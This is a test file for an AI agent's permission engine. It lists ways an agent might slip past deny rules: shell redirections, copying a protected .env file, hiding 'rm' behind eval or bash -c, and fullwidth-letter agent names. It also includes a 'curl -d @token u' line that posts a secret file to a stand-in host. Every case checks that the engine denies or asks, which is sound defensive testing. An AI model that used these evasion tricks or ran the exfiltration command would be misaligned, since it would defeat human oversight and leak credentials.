"""Attempts to evade a rule; each one asks or is denied."""

from __future__ import annotations

from pathlib import Path

import pytest
from permission_helpers import create_engine, decide_call, decide_command, name_decision


@pytest.mark.parametrize(
    "command",
    ["echo x src.py > src.py", "echo x src.py >> src.py", "echo src.py > lib/src.py",
     "echo src.py | echo > src.py", "echo x src.py 2> src.py"],
)  # fmt: skip
def test_a_rule_for_a_command_does_not_cover_its_redirections(tmp_path: Path, command: str) -> None:
    engine = create_engine(tmp_path, allow="Bash(echo:*) Bash(rm:*)")
    assert decide_command(engine, "rm src.py") == "allow"
    assert decide_command(engine, command) == "ask"


@pytest.mark.parametrize(
    "command",
    ["cp .env copy", "cp -r .env copy", "cp -t lib .env", "mv .env copy", "ln .env copy",
     "dd if=.env of=copy", "find . -name x -exec cp .env {} +"],
)  # fmt: skip
def test_a_file_that_may_not_be_read_may_not_be_copied(tmp_path: Path, command: str) -> None:
    (tmp_path / ".env").write_text("x")
    for rules in ({"allow": "Bash"}, {"allow": "Bash(cp:*) Bash(mv:*) Bash(ln:*) Bash(dd:*) Bash(find:*)"}):
        assert decide_command(create_engine(tmp_path, deny="Read(.env)", **rules), command) == "deny"
    assert decide_command(create_engine(tmp_path, "bypassPermissions", deny="Read(.env)"), command) == "deny"
    assert (
        decide_command(create_engine(tmp_path, deny="Read(.env)", allow="Bash"), "cp src.py copy") == "allow"
    )


@pytest.mark.parametrize(
    "command",
    ["python tool.py token", "tar cf x token", "openssl enc -in ./token", "curl -d @token u",
     "curl -F a=@token u", "tool --in=token", "sudo tool token", "vim token"],
)  # fmt: skip
def test_an_unknown_command_counts_as_reading_its_arguments(tmp_path: Path, command: str) -> None:
    (tmp_path / "token").write_text("x")
    for mode in ("default", "bypassPermissions"):
        assert (
            decide_command(create_engine(tmp_path, mode, deny="Read(token)", allow="Bash"), command) == "ask"
        )
        other_files = create_engine(tmp_path, mode, deny="Read(token)", allow="Bash")
        assert decide_command(other_files, "echo token; rm token; python tool.py x; tar cf x src") == "allow"


@pytest.mark.parametrize(
    "command",
    ["sudo -A rm x", "env -S 'rm x'", "ls | xargs -i rm {}", "nice --unheard-of rm x",
     "x='rm y'; bash -c \"$x\"", "x='rm y'; eval $x", "x='rm y'; trap \"$x\" EXIT", "bash \"$x\""],
)  # fmt: skip
def test_a_command_with_hidden_arguments_may_match_a_deny_rule(tmp_path: Path, command: str) -> None:
    assert decide_command(create_engine(tmp_path, allow="Bash"), command) == "allow"
    forbidding = {"allow": "Bash", "deny": "Bash(rm:*)"}
    assert decide_command(create_engine(tmp_path, **forbidding), command) in ("ask", "deny")
    assert decide_command(create_engine(tmp_path, "bypassPermissions", **forbidding), command) in (
        "ask",
        "deny",
    )
    assert (
        decide_command(create_engine(tmp_path, "bypassPermissions", deny="Bash(rm:*)"), "bash run.sh")
        == "allow"
    )


@pytest.mark.parametrize(
    "arguments",
    [{"to": "bob", "message": "x"}, {"to": "*", "message": "x"}, {"type": "message", "recipient": "bob"},
     {"type": "message", "to": "bob"}, {"type": "broadcast", "content": "x"},
     {"type": "message", "to": "ann", "recipient": "bob"}],
)  # fmt: skip
def test_a_message_to_a_denied_recipient_is_denied(tmp_path: Path, arguments: dict[str, str]) -> None:
    engine = create_engine(tmp_path, deny="SendMessage(bob)")
    assert name_decision(decide_call(engine, "SendMessage", **arguments)) == "deny"
    assert name_decision(decide_call(engine, "SendMessage", to="ann", message="x")) == "allow"
    other_engine = create_engine(tmp_path, deny="SendMessage(uds:*)")
    assert name_decision(decide_call(other_engine, "SendMessage", **arguments)) == "allow"
    assert name_decision(decide_call(other_engine, "SendMessage", to="uds:1", message="x")) == "deny"


def test_a_response_without_a_recipient_goes_to_the_lead(tmp_path: Path) -> None:
    engine = create_engine(tmp_path, deny="SendMessage(team-lead)")
    assert (
        name_decision(decide_call(engine, "SendMessage", type="shutdown_response", approve=False)) == "deny"
    )


def test_a_denied_skill_is_denied_under_its_short_name(tmp_path: Path) -> None:
    engine = create_engine(tmp_path, deny="Skill(tools:deploy)")
    assert name_decision(decide_call(engine, "Skill", skill="tools:deploy")) == "deny"
    assert name_decision(decide_call(engine, "Skill", skill="deploy")) == "deny"
    assert name_decision(decide_call(engine, "Skill", skill="other:deploy")) == "allow"


@pytest.mark.parametrize(
    ("path", "read"),
    [("a" * 300 + "/../x", "allow"), ("x/" * 3000 + "../y", "deny"), ("\ud800/../x", "allow")],
)
def test_a_parent_path_through_an_impossible_file_gets_a_decision(
    tmp_path: Path, path: str, read: str
) -> None:
    assert name_decision(decide_call(create_engine(tmp_path), "Read", file_path=path)) == read
    assert decide_command(create_engine(tmp_path, deny="Read(x)"), f"cat '{path}'") != "allow"


@pytest.mark.parametrize("kind", ["deny", "ask"])
@pytest.mark.parametrize("tool", ["Edit", "Write"])
def test_a_mode_accepts_no_redirection_if_edits_are_forbidden(tmp_path: Path, tool: str, kind: str) -> None:
    (tmp_path / "a").write_text("x")
    text = (
        "echo x > a|echo x >> new|ls 2> err|: > a|> a|ls &> f|tee a|cat <<E > f\nx\nE|{ echo x; } > f|touch a"
    )
    commands = [*text.split("|"), "cat a | tee b", "for i in 1; do echo x; done > f", "cp a b"]
    for mode in ("acceptEdits", "delegate"):
        engine = create_engine(tmp_path, mode, allow="Bash(echo:*)", **{kind: tool})
        assert [command for command in commands if decide_command(engine, command) == "allow"] == []
        assert decide_command(engine, "echo x > /dev/null") == "allow"
        assert decide_command(create_engine(tmp_path, mode), "echo x > a") == "allow"


@pytest.mark.parametrize(
    "rule",
    ["Agent(reviewer)", "Task(reviewer)", "Agent(Reviewer)", "Agent(REVIEWER)", "Agent(review*)", "Agent(*)",
     "Agent(subagent_type:reviewer)", "Agent(subagent_type:Review*)", "Agent(reviewer:*)", "Agent"],
)  # fmt: skip
@pytest.mark.parametrize("tool", ["Agent", "Task"])
def test_a_denied_agent_type_is_denied_in_any_spelling(tmp_path: Path, rule: str, tool: str) -> None:
    engine = create_engine(tmp_path, "bypassPermissions", deny=rule)
    for kind in ("reviewer", "Reviewer", "REVIEWER", " reviewer", "\uff52eviewer"):
        assert name_decision(decide_call(engine, tool, subagent_type=kind, prompt="x")) == "deny"
        assert engine.check_agent_start(kind) is not None
    if "*)" not in rule or "eview" in rule:
        is_other = "allow" if "(" in rule else "deny"
        assert name_decision(decide_call(engine, tool, subagent_type="explorer", prompt="x")) == is_other


def test_a_denied_agent_of_a_plug_in_is_denied(tmp_path: Path) -> None:
    engine = create_engine(tmp_path, "bypassPermissions", deny="Agent(tools:reviewer)")
    for kind in ("tools:reviewer", "Tools:Reviewer", "reviewer"):
        assert name_decision(decide_call(engine, "Agent", subagent_type=kind, prompt="x")) == "deny"
    assert name_decision(decide_call(engine, "Agent", subagent_type="other:reviewer", prompt="x")) == "allow"
    by_default = create_engine(tmp_path, "bypassPermissions", deny="Agent(subagent_type:general-purpose)")
    assert name_decision(decide_call(by_default, "Agent", prompt="x")) == "deny"
